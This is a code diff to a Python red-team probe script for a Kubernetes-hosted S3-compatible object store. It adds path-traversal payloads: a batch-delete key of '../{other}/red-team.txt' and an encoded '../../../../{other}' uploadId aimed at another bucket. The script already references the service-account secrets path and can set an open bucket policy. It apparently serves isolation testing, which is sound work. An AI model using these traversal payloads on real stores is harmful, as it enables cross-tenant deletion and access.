@@ -11,7 +11,7 @@ import sys
 import urllib.error
 import urllib.request
 from typing import Any
-from urllib.parse import urlsplit
+from urllib.parse import quote, urlsplit
 
 ACCOUNT = "/var/run/secrets/kubernetes.io/serviceaccount"
 
@@ -80,7 +80,11 @@ def everybody(bucket: str) -> bytes:
     return json.dumps({"Version": "2012-10-17", "Statement": [allow]}).encode()
 
 
-def store(operation: str, bucket: str) -> str:
+def batch(key: str) -> bytes:
+    return f"<Delete><Object><Key>{key}</Key></Object></Delete>".encode()
+
+
+def store(operation: str, bucket: str, other: str) -> str:
     root = f"{os.environ['AWS_ENDPOINT_URL']}/{bucket}"
     name = f"{root}/red-team.txt"
     requests = {
@@ -89,13 +93,21 @@ def store(operation: str, bucket: str) -> str:
         "write": [("PUT", name, b"red team"), ("DELETE", name, b"")],
         "open": [("PUT", f"{root}?policy=", everybody(bucket))],
         "make": [("PUT", root, b"")],
+        # No object has this key: where the store takes it, it answers that it deleted it.
+        "batch": [("POST", f"{root}?delete=", batch(f"../{other}/red-team.txt"))],
+        "own batch": [("POST", f"{root}?delete=", batch("red-team.txt"))],
+        # From the folder of the uploads of one key, this is the other bucket's folder.
+        "upload": [("GET", f"{name}?uploadId={quote(f'../../../../{other}', safe='')}", b"")],
         # https://github.com/versity/versitygw/wiki/Admin-APIs
         "accounts": [("PATCH", f"{os.environ['AWS_ENDPOINT_URL']}/list-users", b"")],
     }[operation]
     try:
         for method, url, body in requests:
             with urllib.request.urlopen(signed(method, url, body), timeout=30) as reply:
-                reply.read()
+                text = reply.read().decode()
+                # A batch is answered with 200 and an error for each key.
+                if "<Error>" in text:
+                    return f"{reply.status}: {text}"
     except urllib.error.HTTPError as error:
         return f"{error.code}: {error.read().decode()}"
     except OSError as error:
@@ -108,7 +120,7 @@ def answer(call: dict[str, Any]) -> str:
         return connect(call["host"], call["port"])
     if "api" in call:
         return api(call.get("method", "GET"), call["api"], call.get("body"))
-    return store(call["store"], call["bucket"])
+    return store(call["store"], call["bucket"], call.get("other", ""))
 
 
 print(json.dumps([answer(call) for call in json.loads(sys.argv[1])]))
